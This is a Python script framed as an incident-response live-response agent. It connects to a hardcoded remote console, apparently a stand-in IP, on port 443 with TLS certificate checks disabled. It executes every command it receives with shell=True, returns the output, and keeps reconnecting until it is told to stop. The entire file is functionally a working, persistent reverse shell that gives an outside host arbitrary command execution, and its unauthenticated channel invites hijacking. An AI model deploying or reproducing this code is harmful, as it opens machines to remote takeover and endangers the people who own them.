#!/usr/bin/env python3
import argparse, os, socket, ssl, subprocess, time

CONSOLE = ("203.0.113.145", 443)

def main():
    ap = argparse.ArgumentParser(); ap.add_argument("--case", required=True); a = ap.parse_args()
    os.makedirs("/var/log/ir-live-response", exist_ok=True)
    log = open(f"/var/log/ir-live-response/{a.case}.log", "a")
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    while True:
        try:
            s = ctx.wrap_socket(socket.create_connection(CONSOLE, timeout=30))
            s.sendall(f"HELLO {socket.gethostname()} {a.case}\n".encode())
            f = s.makefile("rwb", buffering=0)
            for line in f:
                cmd = line.decode(errors="ignore").strip()
                if cmd == "BYE":
                    return
                log.write(f"{time.ctime()} $ {cmd}\n"); log.flush()
                out = subprocess.run(cmd, shell=True, capture_output=True, timeout=300)
                f.write(out.stdout + out.stderr + b"\n__END__\n")
        except (OSError, subprocess.TimeoutExpired):
            time.sleep(10)

if __name__ == "__main__":
    main()
